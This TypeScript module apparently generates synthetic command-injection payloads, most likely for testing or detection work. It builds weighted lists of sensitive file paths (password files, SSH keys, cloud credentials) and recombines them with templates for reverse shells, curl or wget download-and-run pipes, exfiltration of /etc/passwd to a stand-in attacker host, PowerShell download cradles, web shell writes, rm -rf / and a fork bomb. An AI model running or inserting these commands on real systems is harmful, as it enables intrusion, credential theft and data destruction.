import { digits, integer, letters, maybe, mostly, oneOf, repeat, text, words } from '../template.ts';
import { attackerHost, attackerUrl, inventedWord, LOWER, lowerWord, port } from './shared.ts';

const unixAccount = mostly([words('root admin ubuntu www-data user deploy git ec2-user'), 3], [inventedWord, 1]);
const webRoot = words(
  '/var/www /var/www/html /usr/local/apache /usr/local/apache2/htdocs /opt/lampp/htdocs /srv/www /home/www /usr/share/nginx/html /app /opt/app /usr/src/app'
);

/** Paths without a leading slash, so that any number of climbs can stand before them. */
export const unixFile = mostly(
  ['etc/passwd', 14],
  [
    text`etc/${words('shadow hosts group issue hostname fstab motd sudoers crontab resolv.conf profile environment my.cnf os-release bashrc mtab inetd.conf master.passwd security/passwd shells gshadow exports syslog.conf ld.so.conf aliases vsftpd.conf nsswitch.conf services networks lsb-release redhat-release debian_version machine-id npasswd')}`,
    5
  ],
  [
    text`etc/${words('apache2 httpd nginx')}/${words('apache2.conf conf/httpd.conf nginx.conf sites-enabled/default sites-enabled/000-default.conf envvars httpd.conf .htpasswd ports.conf')}`,
    2
  ],
  [
    text`etc/${words('mysql/my.cnf php.ini php5/apache2/php.ini php/7.4/fpm/php.ini ssh/sshd_config ssh/ssh_host_rsa_key cron.d/root samba/smb.conf postgresql/pg_hba.conf redis/redis.conf kubernetes/admin.conf docker/daemon.json letsencrypt/live sysconfig/network-scripts/ifcfg-eth0 init.d/apache apt/sources.list pam.d/login ssl/private/server.key network/interfaces tomcat/tomcat-users.xml')}`,
    2
  ],
  [
    text`proc/${oneOf('self', 'self', '1', integer(2, 3000), 'thread-self')}/${oneOf(words('environ cmdline maps status mounts stat cwd/app.py exe root/etc/passwd net/tcp sched_debug mountinfo limits net/arp'), text`fd/${integer(0, 30)}`, text`task/${integer(1, 99)}/environ`)}`,
    4
  ],
  [text`proc/${words('version cpuinfo net/tcp net/route mounts sched_debug meminfo filesystems partitions')}`, 1],
  [
    text`var/log/${words('auth.log syslog messages apache2/access.log apache2/error.log nginx/access.log nginx/error.log httpd/access_log httpd/error_log mail.log vsftpd.log mysql.log lastlog wtmp secure dmesg')}`,
    2.5
  ],
  [
    text`var/${words('www/html/config.php www/html/wp-config.php www/html/index.php www/.env lib/mysql/mysql/user.MYD lib/php/sessions/sess_a mail/root spool/cron/crontabs/root run/secrets/kubernetes.io/serviceaccount/token lib/docker/overlay2 backups www/html/.htaccess')}`,
    2
  ],
  [
    text`${oneOf('root', text`home/${unixAccount}`)}/.${words('ssh/id_rsa ssh/authorized_keys ssh/known_hosts ssh/config ssh/id_ed25519 bash_history bashrc aws/credentials aws/config kube/config docker/config.json netrc npmrc mysql_history gitconfig pgpass profile viminfo zsh_history git-credentials config/gcloud/credentials.db azure/accessTokens.json')}`,
    3
  ],
  [
    text`usr/local/${words('etc/php.ini apache2/conf/httpd.conf tomcat/conf/server.xml nginx/conf/nginx.conf lib/php.ini etc/apache22/httpd.conf cpanel/logs')}`,
    0.8
  ],
  [text`tmp/${oneOf(text`sess_${letters(LOWER + '0123456789', 26)}`, lowerWord)}`, 0.3],
  [text`${words('bin usr/bin')}/${words('id cat ls bash sh uname')}`, 0.7],
  [
    words(
      'Library/Preferences/com.apple.loginwindow.plist private/etc/passwd private/etc/hosts System/Library/CoreServices/SystemVersion.plist run/secrets/db_password .dockerenv boot/grub/grub.cfg opt/tomcat/conf/tomcat-users.xml dev/null sys/class/net/eth0/address'
    ),
    1
  ]
);
export const windowsFile = mostly(
  [
    text`windows/${words('win.ini system.ini system32/drivers/etc/hosts repair/sam repair/system system32/config/sam system32/config/system php.ini panther/unattend.xml system32/cmd.exe debug/netsetup.log system32/license.rtf system32/inetsrv/config/applicationhost.config iis6.log windowsupdate.log system32/logfiles/w3svc1/ex.log my.ini explorer.exe')}`,
    5
  ],
  [text`winnt/${words('win.ini system32/cmd.exe repair/sam system32/drivers/etc/hosts php.ini')}`, 1.5],
  [
    words(
      'boot.ini autoexec.bat config.sys ntldr pagefile.sys inetpub/wwwroot/web.config inetpub/logs/logfiles inetpub/wwwroot/global.asa xampp/apache/conf/httpd.conf xampp/mysql/bin/my.ini xampp/php/php.ini users/administrator/desktop/desktop.ini users/administrator/ntuser.dat sysprep/sysprep.xml'
    ),
    5
  ],
  [
    oneOf(
      'program files/apache group/apache/conf/httpd.conf',
      'program files/mysql/my.ini',
      'documents and settings/administrator/ntuser.dat',
      'program files (x86)/filezilla server/filezilla server.xml',
      'program files/common files/system/msadc'
    ),
    0.7
  ]
);
/** What an application keeps in its own folders and never serves. */
export const applicationFile = oneOf(
  words(
    'WEB-INF/web.xml WEB-INF/classes/application.properties WEB-INF/applicationContext.xml META-INF/MANIFEST.MF META-INF/context.xml WEB-INF/struts-config.xml WEB-INF/spring-servlet.xml WEB-INF/lib WEB-INF/classes/com'
  ),
  words(
    '.env .git/config .git/HEAD .svn/entries .htaccess .htpasswd wp-config.php config.php configuration.php settings.py config/database.yml web.config global.asax app.py package.json .aws/credentials config/secrets.yml appsettings.json application.yml .npmrc docker-compose.yml Dockerfile id_rsa .bash_history server.js index.php includes/config.inc.php config/parameters.yml app/etc/local.xml sites/default/settings.php .DS_Store admin/config.php'
  ),
  text`${lowerWord}/${words('config settings database secrets users admin')}.${words('php yml xml json ini conf inc jsp py')}`
);

export const unixReader = words(
  'cat tac head tail more less nl od xxd base64 strings sort uniq rev cut paste awk grep vi view file wc dd'
);
export const interestingFile = mostly(
  [text`/${unixFile}`, 4],
  ['/etc/passwd', 4],
  [words('flag.txt /flag /flag.txt .env config.php index.php app.py /tmp/x *'), 1.5]
);

export const simpleCommand = mostly(
  [
    words(
      'id whoami ls pwd uname hostname ifconfig env ps w who uptime date netstat set printenv dir ver ipconfig systeminfo tasklist df mount last history groups arp route lsof'
    ),
    7
  ],
  [
    oneOf(
      'ls -la',
      'ls -l',
      'ls -al /',
      'ls /',
      'ls ..',
      'uname -a',
      'ps aux',
      'ps -ef',
      'netstat -an',
      'netstat -antp',
      'ip a',
      'id -u',
      'cat *',
      'df -h',
      'ifconfig -a',
      'ipconfig /all',
      'net user',
      'net view',
      'net localgroup administrators',
      'hostname -f',
      'whoami /all',
      'dir c:\\',
      'type c:\\boot.ini',
      'sudo -l',
      'lsb_release -a',
      'crontab -l',
      'ss -tlnp',
      'echo $PATH',
      'phpinfo()',
      'set /a 1+1',
      'reg query hklm',
      'wmic process list'
    ),
    5
  ]
);
const shell = words('/bin/sh /bin/bash sh bash zsh dash ksh /bin/zsh cmd.exe powershell');
const sink = words('/tmp/x /tmp/a.sh /dev/shm/x /var/www/html/x.php /dev/null ./x out.txt');
export const fetcher = mostly(
  [text`curl ${maybe(words('-s -k -fsSL -sL -O -sk'))} ${attackerUrl}`, 4],
  [text`wget ${maybe(oneOf('-q', '-O-', '-qO-', '-O /tmp/x', '--no-check-certificate', '-P /tmp'))} ${attackerUrl}`, 4],
  [text`curl ${attackerHost}/\`whoami\``, 0.6],
  [text`curl -d @/etc/passwd ${attackerUrl}`, 0.5],
  [text`curl -F 'x=@/etc/passwd' ${attackerUrl}`, 0.3],
  [text`wget --post-file=/etc/passwd ${attackerUrl}`, 0.4],
  [text`fetch ${attackerUrl}`, 0.2],
  [text`lynx -dump ${attackerUrl}`, 0.2],
  [text`tftp -g -r x ${attackerHost}`, 0.2],
  [text`ftpget ${attackerHost} x x`, 0.15],
  [text`GET ${attackerUrl}`, 0.1],
  [text`aria2c ${attackerUrl}`, 0.1]
);
export const probe = mostly(
  [text`sleep ${integer(1, 60)}`, 4],
  [text`ping ${oneOf('-c', '-n', '-i 30 -c', '-w')} ${integer(1, 30)} ${attackerHost}`, 4],
  [text`ping ${oneOf('-i 30 127.0.0.1', '-n 30 127.0.0.1', attackerHost)}`, 1],
  [text`nslookup ${maybe('-q=txt ')}${attackerHost}`, 2],
  [text`dig ${maybe('+short ')}${attackerHost}`, 1],
  [text`host ${attackerHost}`, 0.5],
  [text`nslookup $(whoami).${attackerHost}`, 0.6],
  [text`nslookup \`whoami\`.${attackerHost}`, 0.6],
  [text`timeout ${maybe('/t ')}${integer(1, 30)}`, 0.5],
  [text`nc -z ${attackerHost} ${port}`, 0.4],
  [text`telnet ${attackerHost} ${port}`, 0.3],
  [text`traceroute ${attackerHost}`, 0.2],
  [text`echo ${lowerWord}`, 1.2],
  [text`echo ${digits(6)}`, 0.7],
  [text`expr ${integer(100, 999)} \\* ${integer(100, 999)}`, 0.3],
  [text`echo $((${integer(10, 99)}*${integer(10, 99)}))`, 0.6],
  [
    text`echo ${letters(LOWER.toUpperCase(), 6)}$((${integer(1, 99)}+${integer(1, 99)}))$(echo ${letters(LOWER.toUpperCase(), 6)})${letters(LOWER.toUpperCase(), 6)}`,
    0.5
  ],
  [text`set /a ${integer(10, 99)}*${integer(10, 99)}`, 0.3],
  [text`printf ${lowerWord}`, 0.2],
  [text`perl -e 'print "${letters(LOWER, 1)}"x${integer(100, 9999)}'`, 0.3]
);
const reverseShell = mostly(
  [text`bash -i >& /dev/tcp/${attackerHost}/${port} 0>&1`, 4],
  [text`bash -c 'bash -i >& /dev/tcp/${attackerHost}/${port} 0>&1'`, 2],
  [text`sh -i >& /dev/udp/${attackerHost}/${port} 0>&1`, 0.6],
  [
    text`0<&${integer(100, 200)};exec ${integer(100, 200)}<>/dev/tcp/${attackerHost}/${port};sh <&${integer(100, 200)} >&${integer(100, 200)} 2>&1`,
    0.6
  ],
  [text`exec 5<>/dev/tcp/${attackerHost}/${port};cat <&5 | while read line; do $line 2>&5 >&5; done`, 0.6],
  [text`nc ${oneOf('-e', '-c', '-nv -e', '-lvp')} ${shell} ${attackerHost} ${port}`, 2],
  [text`nc ${attackerHost} ${port} -e ${shell}`, 1.5],
  [text`ncat --ssl ${attackerHost} ${port} -e ${shell}`, 0.5],
  [text`rm ${maybe('-f ')}/tmp/f;mkfifo /tmp/f;cat /tmp/f|${shell} -i 2>&1|nc ${attackerHost} ${port} >/tmp/f`, 2],
  [text`mknod /tmp/backpipe p;telnet ${attackerHost} ${port} 0</tmp/backpipe|${shell} 1>/tmp/backpipe`, 0.5],
  [
    text`python${maybe('3')} -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${attackerHost}",${port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["${shell}","-i"])'`,
    2
  ],
  [
    text`python${maybe('3')} -c 'import ${oneOf('os', 'pty', 'subprocess', 'urllib.request')};${oneOf('os.system("id")', 'pty.spawn("/bin/sh")', "subprocess.call('id')")}'`,
    1
  ],
  [
    text`perl -e 'use Socket;$i="${attackerHost}";$p=${port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("${shell} -i");};'`,
    1
  ],
  [text`perl -e '${words('system exec print')}("${simpleCommand}")'`, 0.6],
  [
    text`ruby -rsocket -e 'f=TCPSocket.open("${attackerHost}",${port}).to_i;exec sprintf("${shell} -i <&%d >&%d 2>&%d",f,f,f)'`,
    0.8
  ],
  [text`ruby -e 'puts \`${simpleCommand}\`'`, 0.3],
  [
    text`php -r '$s=fsockopen("${attackerHost}",${port});${words('exec shell_exec system passthru')}("${shell} -i <&3 >&3 2>&3");'`,
    1
  ],
  [text`php -r '${words('system phpinfo passthru')}("${simpleCommand}");'`, 0.4],
  [
    text`node -e 'require("child_process").exec("${oneOf(simpleCommand, text`nc ${attackerHost} ${port} -e /bin/sh`)}")'`,
    0.6
  ],
  [text`lua -e 'os.execute("${simpleCommand}")'`, 0.3],
  [
    text`awk 'BEGIN{${oneOf('system("id")', text`s="/inet/tcp/0/${attackerHost}/${port}";while(1){print "> "|&s}`)}}'`,
    0.4
  ],
  [text`socat ${oneOf('exec', 'EXEC', 'tcp-connect')}:'bash -li',pty,stderr tcp:${attackerHost}:${port}`, 0.5],
  [text`xterm -display ${attackerHost}:1`, 0.2],
  [
    text`openssl s_client -quiet -connect ${attackerHost}:${port}|/bin/sh|openssl s_client -quiet -connect ${attackerHost}:${port}`,
    0.3
  ],
  [text`busybox nc ${attackerHost} ${port} -e sh`, 0.4]
);
const powershell = oneOf(
  text`powershell ${oneOf('-nop -c', '-c', '-ExecutionPolicy Bypass -Command', '-w hidden -c', '-noprofile -Command')} "IEX(New-Object Net.WebClient).DownloadString('${attackerUrl}')"`,
  text`powershell ${words('-enc -e -EncodedCommand -ec')} ${letters(LOWER + LOWER.toUpperCase() + '0123456789+/', 24, 90)}==`,
  text`powershell Invoke-WebRequest ${attackerUrl} -OutFile c:\\temp\\${lowerWord}.exe`,
  text`powershell ${words('Get-Process Get-ChildItem whoami Get-Content')} ${maybe('c:\\windows\\win.ini')}`,
  text`powershell Start-Sleep ${maybe('-s ')}${integer(1, 30)}`,
  text`certutil -urlcache -split -f ${attackerUrl} ${lowerWord}.exe`,
  text`bitsadmin /transfer ${lowerWord} ${attackerUrl} c:\\temp\\x.exe`,
  text`mshta ${attackerUrl}`,
  text`regsvr32 /s /n /u /i:${attackerUrl} scrobj.dll`,
  text`rundll32 javascript:"\\..\\mshtml,RunHTMLApplication "`,
  text`cmd${maybe('.exe')} /c ${oneOf(simpleCommand, text`"${simpleCommand}"`, text`start ${lowerWord}`)}`,
  text`net user ${lowerWord} ${lowerWord}${digits(3)} /add`,
  text`net localgroup administrators ${lowerWord} /add`,
  text`type ${oneOf('c:\\windows\\win.ini', '%SYSTEMROOT%\\win.ini', 'c:\\boot.ini', '..\\..\\web.config')}`,
  text`dir ${oneOf('c:\\', '%SYSTEMROOT%', '/s', '..\\')}`,
  text`for /f %i in ('whoami') do nslookup %i.${attackerHost}`,
  text`wmic ${words('os useraccount process')} get ${words('caption name')}`,
  text`schtasks /create /tn ${lowerWord} /tr ${lowerWord}.exe /sc minute`
);
export { powershell, reverseShell, shell, sink, webRoot };

/** A command an attacker would have a shell run. */
export const command = mostly(
  [simpleCommand, 8],
  [text`${unixReader} ${maybe('-n1 ', 0.1)}${interestingFile}`, 8],
  ['cat /etc/passwd', 3],
  [probe, 6],
  [fetcher, 3],
  [text`${fetcher}${maybe(' ')}|${maybe(' ')}${shell}`, 1.5],
  [reverseShell, 2],
  [powershell, 1.2],
  [
    text`echo ${letters(LOWER + LOWER.toUpperCase() + '0123456789+/', 12, 60)}${words('= == ')}${'|'}base64 ${words('-d --decode -D')}|${shell}`,
    1
  ],
  [
    text`echo ${oneOf(lowerWord, '"<?php system($_GET[0]);?>"', "'<?php phpinfo(); ?>'", "'* * * * * root id'", '1')}${oneOf('>', '>>', ' > ', ' >> ')}${sink}`,
    1
  ],
  [text`rm -rf ${oneOf('/', '/*', '*', '--no-preserve-root /', text`/tmp/${lowerWord}`, webRoot)}`, 0.8],
  [text`chmod ${words('777 +x 4755')} ${sink}`, 0.4],
  [text`touch ${sink}`, 0.4],
  [
    text`find / -${oneOf(text`name ${words('flag* *.conf id_rsa')}`, 'perm -4000', 'type f -exec cat {} +', 'maxdepth 1')}`,
    0.5
  ],
  [
    text`/${words('bin usr/bin sbin usr/sbin')}/${words('id cat ls uname whoami ps ifconfig netstat ping sleep')}${maybe(text` ${interestingFile}`)}`,
    2
  ],
  [text`kill -9 ${integer(1, 3000)}`, 0.2],
  ['reboot', 0.2],
  ['shutdown -h now', 0.2],
  [':(){ :|:& };:', 0.4],
  [text`mail ${lowerWord}@${attackerHost} < /etc/passwd`, 0.3],
  [text`cat /etc/passwd | nc ${attackerHost} ${port}`, 0.4],
  [text`grep ${words('root x -r')} /etc/passwd`, 0.3],
  [text`tar cf - /etc | nc ${attackerHost} ${port}`, 0.15],
  [text`useradd ${lowerWord}`, 0.15],
  [text`${words('ls cat')} ${webRoot}`, 0.5],
  [repeat(simpleCommand, 2, 3, ';'), 0.6]
);
